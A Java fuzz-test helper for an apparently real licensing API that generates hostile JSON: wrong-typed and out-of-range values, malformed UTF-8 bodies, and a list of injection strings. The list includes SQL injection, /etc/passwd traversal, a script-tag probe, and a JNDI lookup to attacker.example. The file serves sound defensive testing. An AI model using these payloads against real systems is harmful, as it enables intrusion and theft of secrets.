package com.appconda.licensing.fuzz;

import java.lang.reflect.ParameterizedType;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;

/**
 * Generators of what a hostile client sends as JSON: values of the wrong type or out of every range, injection
 * strings, and bodies that are not one well-formed UTF-8 JSON object. Every value generated here is one the API
 * must refuse where it is generated for: {@link #wrongValueFor} gives only values no field of that Java type may
 * accept, {@link #malformed} only bodies no endpoint may read. The fuzz suites over the request readers, the
 * Broker's parameters and HTTP all draw from here.
 */
public final class HostileJson {

    /** Strings an attacker puts where a number, a filter or a sort belongs. */
    public static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "1; DROP TABLE product--",
            "1 UNION SELECT secret_hash FROM api_key",
            "../../../../etc/passwd",
            "..%2F..%2F..%2Fetc%2Fpasswd",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}",
            "#{7*7}",
            "%{(#a=1)}",
            "\u0000",
            "1\u0000",
            "\ud800",
            "١٢٣",
            "１２３",
            "0x10",
            "1_000",
            "1e3",
            "NaN",
            "Infinity",
            "-0",
            " 5 ",
            "+5",
            "5,0",
            "%",
            "_",
            "\\",
            "name desc; --",
            "ｌｉｃｅｎｓｅ");

    /** Numbers written out that no field of the API holds, or holds only by overflowing. */
    public static final List<String> OUT_OF_RANGE = List.of(
            "1e999999999",
            "-1e999999999",
            "1e-999999999",
            "9223372036854775808",
            "-9223372036854775809",
            "18446744073709551616",
            "1" + "0".repeat(400),
            "2147483648",
            "-2147483649",
            "1.7976931348623157e309");

    private HostileJson() {}

    /** A JSON string literal of {@code text}, escaped as a client's library would. */
    public static String quoted(String text) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }

    /** A JSON object of these members, each value raw JSON text, in their order. */
    public static String object(Map<String, String> rawMembers) {
        return rawMembers.entrySet().stream()
                .map(member -> quoted(member.getKey()) + ":" + member.getValue())
                .collect(Collectors.joining(",", "{", "}"));
    }

    /** {@link #object} with one member put in or replaced by {@code rawValue}. */
    public static String objectWith(Map<String, String> rawMembers, String name, String rawValue) {
        Map<String, String> changed = new LinkedHashMap<>(rawMembers);
        changed.put(name, rawValue);
        return object(changed);
    }

    /** JSON values (as text) that a field of the given Java type must refuse. */
    public static Arbitrary<String> wrongValueFor(Type type) {
        Class<?> raw = raw(type);
        List<Arbitrary<String>> choices = new ArrayList<>();
        if (raw == String.class) {
            choices.add(numbers());
            choices.add(Arbitraries.of("true", "false"));
            choices.add(containers());
        } else if (raw == Boolean.class || raw == boolean.class) {
            choices.add(Arbitraries.of("\"true\"", "\"false\"", "\"yes\"", "1", "0", "\"\""));
            choices.add(numbers());
            choices.add(containers());
        } else if (raw == Integer.class || raw == Long.class || raw == int.class || raw == long.class) {
            choices.add(Arbitraries.of(OUT_OF_RANGE).filter(n -> raw == Integer.class || !isIntRange(n)));
            choices.add(Arbitraries.of("1.5", "-0.25", "0.1", "1e-7", "1E+3", "2.000000001"));
            choices.add(Arbitraries.of(INJECTIONS).map(HostileJson::quoted));
            choices.add(Arbitraries.of("\"5\"", "true", "false"));
            choices.add(containers());
        } else if (raw == BigDecimal.class) {
            choices.add(Arbitraries.of("1e999999999", "-1e999999999", "1" + "0".repeat(400), "0.000001"));
            choices.add(Arbitraries.of(INJECTIONS).map(HostileJson::quoted));
            choices.add(Arbitraries.of("\"1.5\"", "true"));
            choices.add(containers());
        } else if (raw == Instant.class) {
            choices.add(Arbitraries.of(
                    "\"2026-13-01T00:00:00Z\"",
                    "\"2026-02-30T00:00:00Z\"",
                    "\"yesterday\"",
                    "\"+999999999-12-31T23:59:59Z\"",
                    "\"-999999999-01-01T00:00:00Z\"",
                    "\"2026-12-01T25:00:00Z\""));
            choices.add(numbers());
            choices.add(Arbitraries.of(INJECTIONS).map(HostileJson::quoted));
            choices.add(Arbitraries.of("true"));
            choices.add(containers());
        } else if (Map.class.isAssignableFrom(raw)) {
            choices.add(Arbitraries.of("\"a=b\"", "[]", "[{\"a\":\"b\"}]", "true", "1"));
            if (type instanceof ParameterizedType map && raw(map.getActualTypeArguments()[1]) == String.class) {
                choices.add(numbers().map(n -> "{\"key\":" + n + "}"));
                choices.add(Arbitraries.of("{\"key\":true}", "{\"key\":[\"v\"]}", "{\"key\":{\"a\":\"b\"}}"));
            }
        } else if (List.class.isAssignableFrom(raw)) {
            boolean ofText =
                    type instanceof ParameterizedType list && raw(list.getActualTypeArguments()[0]) == String.class;
            choices.add(Arbitraries.of("\"a\"", "{}", "{\"a\":1}", "1", "true", "[1]", "[[]]", "[true]"));
            if (!ofText) {
                choices.add(Arbitraries.of("[\"x\"]"));
            }
        } else {
            throw new IllegalArgumentException("no wrong values known for " + type);
        }
        return Arbitraries.oneOf(choices);
    }

    /** Numbers of every kind: small, negative, fractional and out of range. */
    public static Arbitrary<String> numbers() {
        return Arbitraries.oneOf(
                Arbitraries.integers().map(String::valueOf),
                Arbitraries.longs().map(String::valueOf),
                Arbitraries.doubles().map(d -> BigDecimal.valueOf(d).toString()),
                Arbitraries.of(OUT_OF_RANGE));
    }

    /** Arrays and objects, empty, flat and nested. */
    public static Arbitrary<String> containers() {
        return Arbitraries.oneOf(
                Arbitraries.of("[]", "{}", "[1,2]", "[null]", "{\"a\":1}", "[[[]]]", "[\"x\"]"),
                Arbitraries.integers().between(2, 40).map(depth -> "[".repeat(depth) + "]".repeat(depth)));
    }

    /**
     * A body that is not one well-formed UTF-8 JSON object, made from the valid body {@code valid}: cut short,
     * followed by more, a byte that is no UTF-8, a raw control character inside a string, nested deeper than the
     * API reads, or another JSON value than an object.
     */
    public static Arbitrary<Malformed> malformed(String valid) {
        byte[] bytes = valid.getBytes(StandardCharsets.UTF_8);
        int firstString = valid.indexOf(":\"") + 2;
        return Arbitraries.oneOf(
                Arbitraries.integers()
                        .between(0, bytes.length - 1)
                        .map(cut -> new Malformed("cut short at " + cut, slice(bytes, cut))),
                Arbitraries.of("}", " {}", "x", ",", "]", "\u0000", "{\"a\":1}", "\n[]", " null")
                        .map(tail -> new Malformed(
                                "followed by " + quoted(tail), (valid + tail).getBytes(StandardCharsets.UTF_8))),
                Combinators.combine(
                                Arbitraries.integers().between(0, bytes.length),
                                Arbitraries.of(
                                        new byte[] {(byte) 0x80},
                                        new byte[] {(byte) 0xBF},
                                        new byte[] {(byte) 0xC0, (byte) 0xAF},
                                        new byte[] {(byte) 0xC1},
                                        new byte[] {(byte) 0xF5},
                                        new byte[] {(byte) 0xFF},
                                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                                        new byte[] {(byte) 0xE2, (byte) 0x82}))
                        .as((at, bad) -> new Malformed("bytes " + hex(bad) + " at " + at, spliced(bytes, at, bad))),
                Arbitraries.integers()
                        .between(1, 0x1F)
                        .map(control -> new Malformed(
                                "raw control character " + control + " in a string",
                                spliced(bytes, firstString, new byte[] {control.byteValue()}))),
                Arbitraries.integers()
                        .between(33, 2000)
                        .map(depth -> new Malformed(
                                "nested " + depth + " deep",
                                ("{\"deep\":" + "[".repeat(depth) + "]".repeat(depth) + "," + valid.substring(1))
                                        .getBytes(StandardCharsets.UTF_8))),
                Arbitraries.of("[" + valid + "]", "1", "\"text\"", "null", "true", valid + valid, "\uFEFF" + valid)
                        .map(other -> new Malformed(
                                "not one object: " + abbreviated(other), other.getBytes(StandardCharsets.UTF_8))));
    }

    /** A malformed body and what was done to it, for the report. */
    public record Malformed(String how, byte[] body) {

        @Override
        public String toString() {
            return how;
        }
    }

    private static boolean isIntRange(String number) {
        return number.equals("2147483648") || number.equals("-2147483649");
    }

    private static Class<?> raw(Type type) {
        return type instanceof ParameterizedType parameterized
                ? (Class<?>) parameterized.getRawType()
                : (Class<?>) type;
    }

    private static byte[] slice(byte[] bytes, int length) {
        byte[] cut = new byte[length];
        System.arraycopy(bytes, 0, cut, 0, length);
        return cut;
    }

    private static byte[] spliced(byte[] bytes, int at, byte[] inserted) {
        byte[] result = new byte[bytes.length + inserted.length];
        System.arraycopy(bytes, 0, result, 0, at);
        System.arraycopy(inserted, 0, result, at, inserted.length);
        System.arraycopy(bytes, at, result, at + inserted.length, bytes.length - at);
        return result;
    }

    private static String hex(byte[] bytes) {
        StringBuilder hex = new StringBuilder();
        for (byte b : bytes) {
            hex.append(String.format("%02X", b & 0xFF));
        }
        return hex.toString();
    }

    private static String abbreviated(String text) {
        return text.length() <= 40 ? text : text.substring(0, 40) + "...";
    }
}
